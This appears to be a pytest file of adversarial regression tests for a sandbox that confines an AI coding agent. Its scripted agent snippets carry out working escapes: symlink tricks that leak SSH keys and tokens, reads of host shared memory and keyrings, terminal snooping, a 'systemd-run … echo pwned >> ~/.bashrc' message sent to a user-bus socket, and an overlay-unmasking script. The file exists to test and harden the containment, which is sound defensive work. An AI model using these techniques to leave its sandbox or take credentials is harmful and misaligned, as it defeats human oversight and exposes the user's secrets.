"""Third adversarial review: attacks on the D024 jail (read-only world, private temp dirs).

Same harness as ``tests/test_jail_adversarial.py`` (``Arena`` from the build review, a fake
``claude`` running a snippet, evidence over loopback TCP). Every test runs confined only
and is skipped where :func:`kavi.confine.jail.available` is False.

Section 1 holds attacks that worked against the D024 jail: each docstring names the
guarantee it broke and the fix. D025 (IPC namespace, minimal ``/dev``, private ``/run``,
fresh session keyring, no nested user namespaces, the forge hidden, the worktree walked
only if it is still the directory Kavi created) closed them; they stay as regression
tests. Section 2 keeps attacks it resisted.
"""

from __future__ import annotations

import ctypes
import os
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from kavi.confine import jail
from support.arena import Arena, open_arena
from support.forge import git

pytestmark = [
    pytest.mark.jail_only,
    pytest.mark.skipif(not jail.available(), reason="this machine has no user namespaces: no jail to break"),
]

KEY_SECRET = "sentinel-private-key-material-9d2b"
ENV_SECRET = "sentinel-github-token-e61f07"
SHM_SECRET = b"sentinel-shm-secret-5a1c"
KEYRING_SECRET = b"sentinel-keyring-secret-77d0"
TYPED_SECRET = "sentinel-typed-password-3b9e"
TOKEN_SECRET = "sentinel-ci-token-0c5a2d"


@pytest.fixture
def arena(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Arena]:
    """The build review's arena (``support.arena``), confined only."""
    with open_arena(tmp_path, monkeypatch, confined=True) as a:
        yield a


_libc = ctypes.CDLL(None, use_errno=True)


# ---------------------------------------------------------------------------------------
# 1. attacks that work
# ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("target", ["ssh_dir", "kavi_proc"])
def test_worktree_swapped_for_a_symlink_makes_kavi_commit_host_files(arena: Arena, target: str) -> None:
    """The agent renames its own worktree (its cwd, a plain directory in the writable
    sandbox root) and leaves a symlink in its place, pointing at a host directory the jail
    hides from it: ``~/.ssh``, or ``/proc/self`` — which Kavi resolves to its own process.
    ``sandbox.snapshot`` walks ``locate(box) / box.work.name`` with ``os.scandir``, which
    follows that last link, so Kavi — unconfined — reads the user's private key (or its
    own ``environ``: every variable not registered as a secret, e.g. ``GITHUB_TOKEN``) and
    commits it verbatim, as "files outside the allowed paths kept for inspection", into
    the build branch of the main repository. The next build's agent reads it from the
    forge's object database (visible, copy-on-write), and a pushed branch publishes it.

    Broken: "secrets never enter the object database"; the jail's hidden home (Kavi is
    the confused deputy). Fix: in ``snapshot`` (and anything else that opens the
    sandbox), ``lstat`` the worktree and require a real directory with the identity
    recorded at ``create`` (like ``root_id``), else fail the build without walking; walk
    with ``O_NOFOLLOW``/``openat`` from a directory fd opened once.
    """
    home = Path(os.environ["HOME"])
    if target == "ssh_dir":
        (home / ".ssh").mkdir(mode=0o700)
        (home / ".ssh" / "id_ed25519").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY_SECRET}\n")
        where, forms = home / ".ssh", {"private key material": KEY_SECRET}
    else:
        arena.monkeypatch.setenv("GITHUB_TOKEN", ENV_SECRET)  # Kavi's environment, not a Kavi secret
        where, forms = Path("/proc/self"), {"Kavi's environment": ENV_SECRET}
    arena.agent(
        """
        write_good()
        os.rename(SANDBOX, str(SANDBOX) + ".moved")
        os.symlink(CTX["where"], SANDBOX)
        """,
        where=where,
    )
    out = arena.build_process()  # its own process: /proc/self/environ is Kavi's real environment
    arena.require(out, secret_forms=forms)


_SHM = """
write_good()
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
shmid = libc.shmget(int(CTX["key"]), 0, 0)
stolen = None
if shmid >= 0:
    addr = libc.shmat(shmid, None, 0)
    if addr not in (None, ctypes.c_void_p(-1).value):
        stolen = ctypes.string_at(addr, int(CTX["size"])).decode("ascii", "replace")
        ctypes.memmove(addr, b"agent-was-here".ljust(int(CTX["size"]), b"."), int(CTX["size"]))
left = libc.shmget(int(CTX["key"]) + 1, 64 << 20, 0o1000 | 0o600)  # IPC_CREAT: 64 MiB, no owner
report("ipc", {"shmid": shmid, "stolen": stolen, "left": left})
"""


def _shm_get(key: int) -> int:
    return int(_libc.shmget(key, 0, 0))


def test_sysv_shared_memory_of_the_host_is_readable_writable_and_outlives_the_build(arena: Arena) -> None:
    """The jail has no IPC namespace (``unshare`` lacks ``--ipc``): System V shared memory,
    semaphores and message queues, and POSIX message queues, are the host's. The agent
    attaches a segment of the user's (its key or id is listed in ``/proc/sysvipc/shm``,
    any id can be tried), reads it and overwrites it — X11 MIT-SHM image buffers, a
    database's shared buffers, IPC of the user's desktop — and ``IPC_RMID``/``semop`` could
    break them. It also creates a 64 MiB segment no process holds: it survives the build
    (and the PID namespace), outside the 1 GiB tmpfs caps; repeated, it exhausts the
    host's memory long after Kavi finished.

    Broken: "the only writable place is its sandbox" / no agent effect outside the jail;
    no leftovers. Fix: add ``--ipc`` to ``_UNSHARE`` (a private IPC namespace: its objects
    die with the jail).
    """
    key = 0x4B000000 | (os.getpid() & 0xFFFF) << 4
    size = len(SHM_SECRET)
    libc = _libc
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmdt.argtypes = [ctypes.c_void_p]
    shmid = libc.shmget(key, 4096, 0o1000 | 0o2000 | 0o600)  # IPC_CREAT | IPC_EXCL
    if shmid < 0:
        pytest.skip(f"no System V shared memory here: {os.strerror(ctypes.get_errno())}")
    addr = libc.shmat(shmid, None, 0)
    try:
        ctypes.memmove(addr, SHM_SECRET, size)
        arena.agent(_SHM, key=key, size=size)
        out = arena.build()
        problems = []
        said = arena.evidence.get("ipc") or {}
        if said.get("stolen") == SHM_SECRET.decode():
            problems.append(f"IPC: the agent read the host's shared memory segment {key:#x}")
        if ctypes.string_at(addr, size) != SHM_SECRET:
            problems.append(f"IPC: the host's segment now reads {ctypes.string_at(addr, size)!r}")
        if _shm_get(key + 1) >= 0:
            problems.append(f"LEFTOVER: a 64 MiB System V segment {key + 1:#x} the agent created")
        arena.require(out, failed=False, extra=problems)
    finally:
        libc.shmdt(ctypes.c_void_p(addr))
        for k in (key, key + 1):
            if (i := _shm_get(k)) >= 0:
                libc.shmctl(i, 0, None)  # IPC_RMID: the segments this test (or its agent) made


_KEYRING = """
write_good()
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
KEYCTL_UPDATE, KEYCTL_SEARCH, KEYCTL_READ = 2, 10, 11
SESSION = -3  # KEY_SPEC_SESSION_KEYRING: inherited from Kavi through unshare and setpriv
kid = libc.syscall(250, KEYCTL_SEARCH, SESSION, b"user", CTX["desc"].encode(), 0)
stolen = None
if kid > 0:
    buf = ctypes.create_string_buffer(256)
    n = libc.syscall(250, KEYCTL_READ, kid, buf, 256)
    stolen = buf.raw[:n].decode("ascii", "replace") if n > 0 else None
    libc.syscall(250, KEYCTL_UPDATE, kid, b"agent-was-here", 14)
planted = libc.syscall(248, b"user", (CTX["desc"] + "-planted").encode(), b"x", 1, SESSION)
report("keyring", {"key": kid, "stolen": stolen, "planted": planted})
"""

_SYS_ADD_KEY, _SYS_KEYCTL = 248, 250  # x86_64
_KEYCTL_READ, _KEYCTL_INVALIDATE, _KEY_SPEC_SESSION_KEYRING = 11, 21, -3


def _key_read(key_id: int) -> bytes | None:
    buf = ctypes.create_string_buffer(256)
    n = _libc.syscall(_SYS_KEYCTL, _KEYCTL_READ, key_id, buf, 256)
    return buf.raw[:n] if n >= 0 else None


def test_kavis_session_keyring_is_shared_with_the_agent(arena: Arena) -> None:
    """Keyrings are not namespaced by the jail's mounts: the session keyring is part of
    the credentials ``unshare`` and ``setpriv`` pass on, so the agent possesses Kavi's
    (the user's login session keyring, with ``pam_keyinit``). It reads a key in it —
    Kerberos tickets (``KRB5CCNAME=KEYRING:session:…``), fscrypt/ecryptfs keys, tokens a
    tool cached with ``keyctl`` — rewrites it (``KEYCTL_UPDATE``), and plants a key of its
    own that stays in the user's session after the build. (The user keyring ``@u`` is
    per user namespace: that one is out of reach.)

    Broken: secrets out of the agent's reach; no agent effect outside the jail; no
    leftovers. Fix: in ``jail_init``, join a fresh anonymous session keyring
    (``keyctl(KEYCTL_JOIN_SESSION_KEYRING, NULL)``) before dropping privileges; better,
    a seccomp filter refusing ``add_key``/``request_key``/``keyctl`` (Docker's default).
    """
    if os.uname().machine != "x86_64":
        pytest.skip("syscall numbers here are x86_64's")
    desc = f"kavi-review-{os.getpid()}"
    key_id = _libc.syscall(
        _SYS_ADD_KEY, b"user", desc.encode(), KEYRING_SECRET, len(KEYRING_SECRET), _KEY_SPEC_SESSION_KEYRING
    )
    if key_id < 0:
        pytest.skip(f"no kernel keyrings here: {os.strerror(ctypes.get_errno())}")
    planted = -1
    try:
        arena.agent(_KEYRING, desc=desc)
        out = arena.build()
        said = arena.evidence.get("keyring") or {}
        planted = int(said.get("planted") or -1)
        problems = []
        if said.get("stolen") == KEYRING_SECRET.decode():
            problems.append("KEYRING: the agent read a key from Kavi's session keyring")
        if _key_read(key_id) != KEYRING_SECRET:
            problems.append(f"KEYRING: the key in Kavi's session keyring now reads {_key_read(key_id)!r}")
        if planted > 0 and _key_read(planted) is not None:
            problems.append(
                f"LEFTOVER: key {desc}-planted, planted by the agent in the user's session keyring"
            )
        arena.require(out, failed=False, extra=problems)
    finally:
        for k in (key_id, planted):
            if k > 0:
                _libc.syscall(_SYS_KEYCTL, _KEYCTL_INVALIDATE, k)  # the keys this test (or its agent) made


_PTY = """
write_good()
import select
try:
    fd = os.open(CTX["tty"], os.O_RDWR | os.O_NOCTTY)  # one of /dev/pts/*: the test's own, here
except OSError as exc:
    report("tty_ready", False)  # out of reach: the test need not type
    report("typed", exc.strerror)
    raise SystemExit(0)
os.write(fd, b"\\x1b]0;" + CTX["marker"].encode() + b"\\x07")  # a terminal escape: sets the title
report("tty_ready", True)
stolen = b""
end = time.monotonic() + 10
while b"\\n" not in stolen and time.monotonic() < end:
    if select.select([fd], [], [], 0.2)[0]:
        stolen += os.read(fd, 256)
report("typed", stolen.decode("utf-8", "replace"))
"""


def test_the_users_terminals_are_reachable_through_dev_pts(arena: Arena) -> None:
    """``/dev`` is the host's, read-only — but a read-only mount does not stop opening a
    device node for reading and writing. ``/dev/pts`` is the host's devpts instance: every
    terminal the user has open (other tabs, tmux panes, an ssh session) is ``/dev/pts/N``,
    owned by the user. The agent opens one, writes escape sequences into it (here: the
    window title; on many terminals OSC 52 sets the clipboard) and reads what the user
    types there — a ``sudo`` password typed in another tab while the build runs. (Here
    the "user's terminal" is a pty this test opened; the agent is told its name.) The
    same holds for every device the user's supplementary groups (kept in the jail) open:
    ``/dev/snd`` (microphone), ``/dev/video*`` (camera), ``/dev/input/*`` (``input``:
    every keystroke), ``/dev/sd*`` (``disk``: raw writes to the host's disks).

    Broken: secrets out of the agent's reach; no agent effect outside the jail. Fix: give
    the jail a minimal ``/dev`` (tmpfs with ``null``, ``zero``, ``full``, ``random``,
    ``urandom``, ``tty`` bound in, like ``bwrap --dev``; or ``MOUNT_ATTR_NODEV`` in
    step 1 and those few nodes bound back) and a private devpts instance
    (``mount -t devpts -o newinstance,ptmxmode=0666`` on ``/dev/pts``, ``/dev/ptmx`` →
    ``pts/ptmx``).
    """
    master, slave = os.openpty()
    tty = os.ttyname(slave)
    marker = f"kavi-review-{os.getpid()}"

    def user_types() -> None:
        if arena.evidence.wait("tty_ready", 20):
            os.write(master, f"{TYPED_SECRET}\n".encode())

    typist = threading.Thread(target=user_types, daemon=True)
    typist.start()
    try:
        arena.agent(_PTY, tty=tty, marker=marker)
        out = arena.build()
        typist.join(timeout=25)
        os.set_blocking(master, False)
        try:
            shown = os.read(master, 4096).decode("utf-8", "replace")
        except BlockingIOError:
            shown = ""
        problems = []
        if TYPED_SECRET in (arena.evidence.get("typed") or ""):
            problems.append(f"TTY: the agent read what the user typed into {tty}")
        if marker in shown:
            problems.append(f"TTY: the agent wrote escape sequences into the user's terminal {tty}")
        arena.require(out, failed=False, extra=problems)
    finally:
        os.close(slave)
        os.close(master)


def test_protected_directory_emptied_and_recreated_is_not_an_escape(arena: Arena) -> None:
    """The agent deletes a whole directory of the main repository (``.git/hooks``,
    ``.kavi``) and makes it again, empty, with the same mode. In the upper layer that is
    one *opaque* directory (``user.overlay.opaque``) hiding everything below it, and no
    whiteout at all; ``_change`` skips a directory whose mode matches the lower one
    ("copied up only because something inside it changed"), so :meth:`Jail.escapes`
    lists nothing and the build SUCCEEDS. The real files are untouched, but the agent's
    attempt to wipe the repository's hooks and governance files goes unreported.

    Broken: "each write to a protected directory fails the build as rule ``escape``"
    (D023, kept in D024). Fix: in ``_change``, report an upper directory carrying the
    ``user.overlay.opaque`` xattr (``os.getxattr(..., follow_symlinks=False)``) as
    "replaced (directory)"; more robustly, report any upper directory that has no entry
    of its own and differs from the lower one in content.
    """
    arena.agent(
        """
        write_good()
        for rel in (".kavi", ".git/hooks"):
            d = main_repo() / rel
            mode = stat.S_IMODE(d.stat().st_mode)
            shutil.rmtree(d)
            os.mkdir(d)
            os.chmod(d, mode)
        report("emptied", sorted(os.listdir(main_repo() / ".kavi")))
        """
    )
    out = arena.build()
    assert arena.evidence.get("main_repo") == "hidden", "the forge was in the agent's sight"
    arena.require(out, (".kavi", "tripwire"), (".git/hooks", "tripwire"))


def test_the_users_runtime_dir_is_hidden_only_when_xdg_runtime_dir_names_it(
    arena: Arena, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``runtime_dirs`` hides ``$XDG_RUNTIME_DIR`` — only when that variable is set. Kavi
    run from cron, a CI runner or a systemd service, under ``sudo -u``/``su``, or with a
    scrubbed environment has none, while the user's ``/run/user/<uid>`` is alive (a
    desktop login, or lingering): the systemd user bus (``systemd-run --user`` runs any
    command outside the jail), ``gnupg/S.gpg-agent``, rootless ``podman``/``docker``
    sockets, ``keyring/control``, the ``gcr`` ssh-agent, ``pipewire-0`` (the microphone).
    A read-only mount does not stop ``connect()``. The agent connects to a stand-in for
    the user bus there. (The test creates ``/run/user/<uid>`` if it may and it is
    missing, and removes what it made.)

    Broken: no agent code outside the jail (the D024 fix for the tmux/D-Bus sockets).
    Fix: always cover ``/run/user/<os.getuid()>`` (and ``$XDG_RUNTIME_DIR``); better, a
    private ``/run`` with only what the backend needs bound back (``resolv.conf``'s
    target), which also hides the system bus, ``/run/screen``, and root-equivalent
    sockets the ``DAEMON_SOCKETS`` denylist misses (libvirt, LXD/Incus, k3s).
    """
    import socket

    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    runtime = Path(f"/run/user/{os.getuid()}")
    made = False
    if not runtime.is_dir():
        try:
            runtime.mkdir(mode=0o700)
            made = True
        except OSError:
            pytest.skip(f"no {runtime} here, and it cannot be made")
    sock = runtime / f"kavi-review-{os.getpid()}.bus"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(str(sock))
    except OSError as exc:
        server.close()
        if made:
            runtime.rmdir()
        pytest.skip(f"cannot make a socket in {runtime}: {exc}")
    server.listen(1)
    server.settimeout(20)
    heard: list[bytes] = []

    def serve() -> None:
        try:
            conn, _ = server.accept()
            with conn:
                conn.settimeout(5)
                heard.append(conn.recv(256))
        except OSError:
            pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        arena.agent(
            """
            write_good()
            import socket as _socket
            conn = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
            try:
                conn.connect(CTX["sock"])  # a real attacker globs /run/user/*/bus
                conn.sendall(b"systemd-run --user -- sh -c 'echo pwned >> ~/.bashrc'")
                report("reached", CTX["sock"])
            except OSError as exc:
                report("reached", f"blocked: {exc.strerror}")
            """,
            sock=sock,
        )
        out = arena.build()
        if not str(arena.evidence.get("reached", "")).startswith("blocked"):
            thread.join(timeout=5)  # the message may still be on its way
        problems = (
            [f"RUNTIME: the agent talked to a socket in the user's {runtime}: {heard[0]!r}"] if heard else []
        )
        arena.require(out, failed=False, extra=problems)
    finally:
        server.close()
        sock.unlink(missing_ok=True)
        if made:
            runtime.rmdir()


def test_credentials_in_the_forges_git_config_are_readable(arena: Arena) -> None:
    """The forge's git dir is in view (copy-on-write), and only ``sandbox.exclude``
    matches in the working tree are withheld. ``actions/checkout`` (persist-credentials,
    the default) leaves the job's token in ``.git/config`` as
    ``http.https://github.com/.extraheader``; others keep ``https://user:token@host``
    remote URLs there. The agent — which has no use for the forge at all: its worktree is
    a full checkout and its ``.git`` link is deleted — reads the token and ships it (in
    the skill file here; over the network in practice) to push to the repository.

    Broken: the user's credentials outside the sandbox stay out of the agent's reach.
    Fix: hide the forge's git dir wholesale (an empty read-only tmpfs over the overlay:
    writes stay impossible or detectable); at least mask ``config`` and
    ``config.worktree`` files in it.
    """
    import base64

    header = base64.b64encode(f"x-access-token:{TOKEN_SECRET}".encode()).decode()
    git("config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {header}", cwd=arena.repo)
    arena.agent(
        """
        write_good()
        stolen = (main_repo() / ".git" / "config").read_text()
        with open(SKILL, "a") as fh:
            fh.write("".join(f"# {line}\\n" for line in stolen.splitlines()))
        """
    )
    out = arena.build()
    arena.require(out, failed=False, secret_forms={"the CI token in .git/config": header})


# ---------------------------------------------------------------------------------------
# 2. what the jail resists (regression tests)
# ---------------------------------------------------------------------------------------

_OVERLAY_UNMASK = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
forge, env_file, home_rel, scratch = sys.argv[1:5]
out = {}
def mount_overlay(lower):
    ok = libc.mount(b"overlay", mnt.encode(), b"overlay", 0, f"lowerdir={lower}".encode()) == 0
    return "ok" if ok else os.strerror(ctypes.get_errno())
out["unshare"] = "ok" if libc.unshare(0x10000000 | 0x00020000) == 0 else os.strerror(ctypes.get_errno())
mnt, e1, e2 = (os.path.join(scratch, n) for n in ("mnt", "e1", "e2"))
for d in (mnt, e1, e2):
    os.makedirs(d, exist_ok=True)
out["control"] = mount_overlay(f"{e1}:{e2}")  # overlayfs works in the nested namespace
libc.umount2(mnt.encode(), 2)
# an overlay's lower layer is looked up without crossing mounts: it would show what the
# masks and the private tmpfs cover (the forge's .env; / -> the real /tmp -> $HOME)
for name, lower, leaf in (("forge", forge, os.path.basename(env_file)), ("root", "/", home_rel)):
    out[name] = mount_overlay(f"{lower}:{e1}")
    if out[name] == "ok":
        try:
            out[name] += ": " + open(os.path.join(mnt, leaf)).read()
        except OSError as exc:
            out[name] += f": {exc.strerror}"
        libc.umount2(mnt.encode(), 2)
print(repr(out))
"""


def test_nested_overlay_cannot_look_under_the_masks(arena: Arena) -> None:
    """Resisted. In a nested user + mount namespace the agent may mount overlayfs, and an
    overlay's lower layer is read without crossing mount points — so ``lowerdir=<forge>``
    would show the real ``.env`` under its mask, and ``lowerdir=/`` the real ``/tmp`` and
    ``$HOME`` under the private tmpfs. The kernel refuses (EINVAL) an unprivileged
    overlay whose lower layer has locked mounts below it; a control overlay of two empty
    directories mounts fine.
    """
    from support.arena import DOTENV_SECRET

    env_file = arena.repo / ".env"
    env_file.write_text(f"DB_PASSWORD={DOTENV_SECRET}\n")
    home = Path(os.environ["HOME"])
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "id_ed25519").write_text(KEY_SECRET + "\n")
    arena.agent(
        """
        write_good()
        script = Path(os.environ["TMPDIR"]) / "unmask.py"
        script.write_text(CTX["script"])
        res = subprocess.run([sys.executable, str(script), CTX["forge"], CTX["env"], CTX["home_rel"],
                              os.environ["TMPDIR"]], capture_output=True, text=True, timeout=20)
        report("verdict", res.stdout + res.stderr)
        """,
        script=_OVERLAY_UNMASK,
        forge=arena.repo,
        env=env_file,
        home_rel=str(home / ".ssh" / "id_ed25519")[1:],
    )
    out = arena.build()
    said = arena.evidence.get("verdict") or ""
    # no nested namespace at all now (max_user_namespaces is 0 in the jail): no mounts to try
    assert "'unshare': 'No space left on device'" in said, said
    assert DOTENV_SECRET not in said and KEY_SECRET not in said, said
    arena.require(out, failed=False)


def test_pseudo_filesystems_and_bind_backs_are_read_only(arena: Arena) -> None:
    """Resisted. Mounts made after step 1 and the kernel's own filesystems: the agent
    cannot write the bound-back directory of its own executable, ``/proc/sys``, cgroup
    files, ``/sys``, or anything of the host's ``/dev`` but device nodes; a setuid binary
    gains nothing (``no_new_privs``); it can signal no process but its own.
    """
    arena.agent(
        """
        write_good()
        import glob
        wrote = []  # opened for writing only (nothing written): a read-only mount refuses the open
        files = ["/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper",
                 *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:20],
                 *glob.glob("/sys/fs/cgroup/**/cgroup.kill", recursive=True)[:20]]
        for path in files:
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
                wrote.append(path)
            except OSError:
                pass
        for d in (str(Path(sys.argv[0]).resolve().parent), "/etc", "/usr/lib", "/dev", "/dev/pts"):
            try:  # an unnamed file: needs write access to the directory, leaves nothing behind
                os.close(os.open(d, os.O_TMPFILE | os.O_WRONLY, 0o600))
                wrote.append(d)
            except OSError:
                pass
        for flag in ("NoNewPrivs", "CapEff", "CapBnd"):
            wrote += [line for line in Path("/proc/self/status").read_text().splitlines()
                      if line.startswith(flag) and not line.endswith(("\\t1", "0000000000000000"))]
        killed = []
        for pid in range(2, 400):
            if pid == os.getpid():
                continue
            try:
                os.kill(pid, 0)
                killed.append(pid)
            except OSError:
                pass
        report("wrote", wrote)
        report("pids", killed)
        """
    )
    out = arena.build()
    assert arena.evidence.get("wrote") == [], arena.evidence.get("wrote")
    assert arena.evidence.get("pids") == [], arena.evidence.get("pids")
    arena.require(out, failed=False)
